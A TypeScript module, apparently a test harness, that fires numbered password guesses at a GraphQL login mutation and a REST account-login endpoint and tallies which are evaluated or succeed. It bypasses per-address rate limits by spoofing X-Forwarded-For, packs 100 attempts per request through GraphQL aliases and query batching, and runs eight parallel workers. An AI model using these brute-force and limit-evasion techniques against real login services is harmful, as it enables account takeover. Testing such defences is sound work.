/** Where guesses go: the graph, and the services behind it. */
export interface Doors {
  url: string
  rest: string
}

/** Whose password is guessed. */
export interface Target {
  user: string
  audience: 'INTERNAL' | 'SUPPLIER' | 'CUSTOMER'
  /** Where all guesses come from; each from an address of its own unless told. */
  address?: string
}

/** What became of guesses: each was compared with the password, or turned away before. */
export interface Guessed {
  sent: number
  evaluated: number
  entered: number
}

/** Guesses that travel together where a way carries several. */
const TOGETHER = 100
const AT_ONCE = 8
const lexOf = { INTERNAL: 0, SUPPLIER: 1000, CUSTOMER: 1001 } as const
const LOGIN = 'mutation Guess($input: LoginInput!) { login(input: $input) { session { user { id } } errors { code } } }'

const count = (text: string, part: string): number => text.split(part).length - 1

/** Where limits by address are no help. */
const addressOf = (guess: number) => `10.${(guess >> 16) & 255}.${(guess >> 8) & 255}.${guess & 255}`

async function send(url: string, body: unknown, guess: number, address = addressOf(guess)): Promise<string> {
  const response = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
    body: JSON.stringify(body),
  })
  return response.text()
}

const inputOf = ({ user, audience }: Target, guess: number) => ({ user, audience, password: `Guess${guess}` })

/** By name, how one request carries guesses; answers its text. */
const ways = {
  aliases: (doors: Doors, target: Target, guess: number) => {
    const fields = Array.from({ length: TOGETHER }, (_, at) => {
      const { user, audience, password } = inputOf(target, guess + at)
      return `g${at}: login(input: { user: "${user}", audience: ${audience}, password: "${password}" }) { session { user { id } } errors { code } }`
    })
    return send(`${doors.url}/graphql`, { query: `mutation { ${fields.join(' ')} }` }, guess, target.address)
  },
  batches: (doors: Doors, target: Target, guess: number) => {
    const operation = (at: number) => ({ query: LOGIN, variables: { input: inputOf(target, guess + at) } })
    return send(
      `${doors.url}/graphql`,
      Array.from({ length: TOGETHER }, (_, at) => operation(at)),
      guess,
      target.address,
    )
  },
  graph: (doors: Doors, target: Target, guess: number) =>
    send(`${doors.url}/graphql`, { query: LOGIN, variables: { input: inputOf(target, guess) } }, guess, target.address),
  rest: (doors: Doors, { user, audience, address }: Target, guess: number) =>
    send(
      `${doors.rest}/api/v1.0/Account/login`,
      { UsrName: user, UsrPassword: `Guess${guess}`, LexID: lexOf[audience] },
      guess,
      address,
    ),
}

export type Way = keyof typeof ways

const carried: Readonly<Record<Way, number>> = { aliases: TOGETHER, batches: TOGETHER, graph: 1, rest: 1 }

/** Guesses somebody's password so often, by one way. */
export async function guess(doors: Doors, target: Target, way: Way, times: number): Promise<Guessed> {
  const told: Guessed = { sent: 0, evaluated: 0, entered: 0 }
  async function keepOn(): Promise<void> {
    while (told.sent < times) {
      const first = told.sent
      told.sent += carried[way]
      const text = await ways[way](doors, target, first)
      told.evaluated += count(text, '"UNAUTHENTICATED"') + count(text, '"Message":"[Error al autenticar]"')
      told.entered += count(text, '"user":{') + count(text, '"Token"')
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, keepOn))
  return told
}
